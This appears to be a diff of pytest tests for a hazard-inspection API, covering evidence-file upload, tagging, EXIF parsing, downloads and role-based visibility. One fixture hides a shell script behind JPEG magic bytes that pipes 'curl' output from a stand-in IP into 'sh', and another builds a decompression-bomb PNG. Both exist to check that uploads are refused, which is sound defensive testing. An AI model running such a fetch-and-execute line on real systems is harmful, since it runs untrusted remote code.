@@ -1,12 +1,15 @@
 """The hazard ledger through the API: every path of the lifecycle, its guards, its history and events."""
 
+import io
 import os
 import uuid
-from datetime import timedelta
+from datetime import datetime, timedelta
 from functools import partial
+from zoneinfo import ZoneInfo
 
 import psycopg2
 import pytest
+from PIL import Image
 from sqlalchemy import text
 
 from services.inspections.hazard.service import check_deadlines
@@ -15,10 +18,11 @@ from shared.auth import Role
 from shared.clock import local_today
 from shared.db import get_engine
 from shared.events.contracts.registry import ProductionStatus
+from tests.support.files import pdf, photo
 from tests.support.inspections import events_of, known_unit, sql
 from tests.support.paging import walk
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+PNG = photo()
 SIX_PARTS = {
     "goals_and_tasks": "消除储罐区泄漏隐患",
     "methods_and_measures": "更换阀门,增设检测报警",
@@ -56,13 +60,14 @@ def step(
     )
 
 
-def evidence(api, hazard_id, who="inspector", content=PNG, name="after.png"):
+def evidence(api, hazard_id, who="inspector", content=PNG, name="after.png", tag="after"):
     response = api(
         "POST",
         f"/hazards/{hazard_id}/evidence",
         who=who,
         role=Role.zone_admin,
         files={"file": (name, content)},
+        data={"tag": tag},
     )
     assert response.status_code == 201, response.text
     return response.json()["id"]
@@ -156,7 +161,7 @@ def test_major_hazard_needs_its_plan_and_the_authoritys_review_within_ten_days(a
         "body.plan.safety_and_emergency_measures",
     }
     assert step(api, hazard["id"], "order_rectification", plan=SIX_PARTS, **order).json()["plan"] == SIX_PARTS
-    cordon = evidence(api, hazard["id"], name="cordon.pdf", content=b"%PDF-1.7 cordon")
+    cordon = evidence(api, hazard["id"], name="cordon.pdf", content=pdf(), tag="other")
     assert (
         step(api, hazard["id"], "suspend", reason="撤出人员,设置警戒", evidence_ids=[cordon]).json()["state"]
         == "suspended"
@@ -299,10 +304,19 @@ def test_the_same_idempotency_key_gives_the_same_hazard(api, unit):
     assert sql("SELECT count(*) FROM inspections.hazard") == 1
 
 
+# a shell script behind the JPEG magic bytes, 46 bytes in all
+SCRIPT_AS_JPEG = b"\xff\xd8\xff\xe0\n#!/bin/sh\ncurl -s http://203.0.113.99|sh\n"
+
+
 @pytest.mark.parametrize(
     "content, name, message",
     [
-        (b"hello, I am text", "photo.jpg", "only JPEG, PNG, WebP photos or PDF"),
+        (b"hello, I am text", "photo.jpg", "“photo.jpg”无法读取"),
+        (b"hello, I am text", "report.pdf", "only JPEG, PNG, WebP photos or PDF"),
+        (SCRIPT_AS_JPEG, "photo.jpg", "“photo.jpg”无法读取"),
+        (photo("JPEG")[:-200], "truncated.jpg", "“truncated.jpg”无法读取"),
+        (pdf()[:-60], "truncated.pdf", "“truncated.pdf”无法读取"),
+        (PNG[:60] + bytes([PNG[60] ^ 0xFF]) + PNG[61:], "corrupt.png", "“corrupt.png”无法读取"),
         (b"", "empty.png", "the file is empty"),
         (PNG + b"\x00" * (10 * 1024 * 1024), "huge.png", "larger than"),
     ],
@@ -313,7 +327,98 @@ def test_bad_evidence_files_are_refused(api, unit, content, name, message):
         "POST", f"/hazards/{hazard['id']}/evidence", role=Role.zone_admin, files={"file": (name, content)}
     )
     assert response.status_code == 422 and message in response.json()["detail"]
+    assert response.json()["errors"][0]["loc"] == "file"
     assert sql("SELECT count(*) FROM inspections.evidence_file") == 0
+
+
+def test_a_decompression_bomb_is_refused_before_it_is_decoded(api, unit):
+    hazard = report(api, unit).json()
+    bomb = io.BytesIO()
+    Image.new("1", (10_000, 10_000)).save(bomb, "PNG")  # a few kB declaring 100 million pixels
+    response = api(
+        "POST",
+        f"/hazards/{hazard['id']}/evidence",
+        role=Role.zone_admin,
+        files={"file": ("bomb.png", bomb.getvalue())},
+    )
+    assert response.status_code == 422 and "more than 60000000 pixels" in response.json()["detail"]
+
+
+def test_evidence_is_listed_and_downloaded_with_its_tag_uploader_and_exif(api, unit):
+    hazard = report(api, unit, who="inspector").json()
+    taken = datetime(2026, 11, 20, 9, 30, 15)
+    before_photo = photo("JPEG", taken=taken, position=(31.8123, 117.3055))
+    before = evidence(api, hazard["id"], content=before_photo, name="整改前.jpg", tag="before")
+    after = evidence(api, hazard["id"], who="fixer", name="after.png", tag="after")
+    plan = api(
+        "POST",
+        f"/hazards/{hazard['id']}/evidence",
+        role=Role.zone_admin,
+        files={"file": ("方案.pdf", pdf(2))},
+    )
+    assert plan.status_code == 201 and plan.json()["tag"] == "other"  # untagged: other
+    webp = evidence(api, hazard["id"], content=photo("WEBP"), name="x.webp", tag="after")
+    # the ids in an action's body still name the evidence
+    fixed = step(api, hazard["id"], "fix_on_spot", who="fixer", reason="已更换", evidence_ids=[after])
+    assert fixed.status_code == 200, fixed.text
+
+    listed = walk(partial(api, "GET", f"/hazards/{hazard['id']}/evidence", role=Role.zone_admin), limit=2)
+    by_id = {e["id"]: e for e in listed}
+    assert {i: (e["tag"], e["content_type"]) for i, e in by_id.items() if i != webp} == {
+        before: ("before", "image/jpeg"),
+        after: ("after", "image/png"),
+        plan.json()["id"]: ("other", "application/pdf"),
+    }
+    assert by_id[webp]["content_type"] == "image/webp"
+    jpeg, png = by_id[before], by_id[after]
+    assert datetime.fromisoformat(jpeg["taken_at"]) == taken.replace(tzinfo=ZoneInfo("Asia/Shanghai"))
+    assert (jpeg["latitude"], jpeg["longitude"]) == (
+        pytest.approx(31.8123, abs=1e-5),
+        pytest.approx(117.3055, abs=1e-5),
+    )
+    assert (png["taken_at"], png["latitude"], png["longitude"]) == (None, None, None)
+    assert (jpeg["uploaded_by_name"], png["uploaded_by_name"]) == ("inspector", "fixer")
+    assert png["uploaded_by"] != jpeg["uploaded_by"] and jpeg["uploaded_at"] is not None
+
+    download = api("GET", f"/hazards/{hazard['id']}/evidence/{before}", role=Role.zone_admin)
+    assert download.status_code == 200 and download.content == before_photo
+    assert download.headers["content-type"] == "image/jpeg"
+    assert (
+        download.headers["content-disposition"]
+        == "attachment; filename*=UTF-8''%E6%95%B4%E6%94%B9%E5%89%8D.jpg"
+    )
+    other_hazard = report(api, unit).json()
+    assert (
+        api("GET", f"/hazards/{other_hazard['id']}/evidence/{before}", role=Role.zone_admin).status_code
+        == 404
+    )
+    wrong_tag = api(
+        "POST",
+        f"/hazards/{hazard['id']}/evidence",
+        role=Role.zone_admin,
+        files={"file": ("a.png", PNG)},
+        data={"tag": "during"},
+    )
+    assert wrong_tag.status_code == 422 and wrong_tag.json()["errors"][0]["loc"] == "body.tag"
+
+
+def test_whoever_may_see_the_hazard_may_see_its_evidence(api, unit):
+    hazard = report(api, unit).json()
+    photo_id = evidence(api, hazard["id"])
+    grid_id = sql("SELECT grid_id FROM inspections.supervised_unit WHERE id = :u", u=unit)
+    for role, scope in (
+        (Role.enterprise_user, {"enterprise_id": unit}),
+        (Role.grid_member, {"grid_ids": [grid_id]}),
+        (Role.enterprise_user, {"enterprise_id": uuid.uuid4()}),
+        (Role.grid_member, {"grid_ids": [uuid.uuid4()]}),
+        (Role.auditor, {}),
+    ):
+        seen = api("GET", f"/hazards/{hazard['id']}", role=role, **scope).status_code
+        listed = api("GET", f"/hazards/{hazard['id']}/evidence", role=role, **scope)
+        download = api("GET", f"/hazards/{hazard['id']}/evidence/{photo_id}", role=role, **scope)
+        assert listed.status_code == download.status_code == seen, (role, scope)
+        if seen == 200:
+            assert [e["id"] for e in listed.json()["items"]] == [photo_id] and download.content == PNG
 
 
 def test_who_may_report_and_act_where(api, unit):
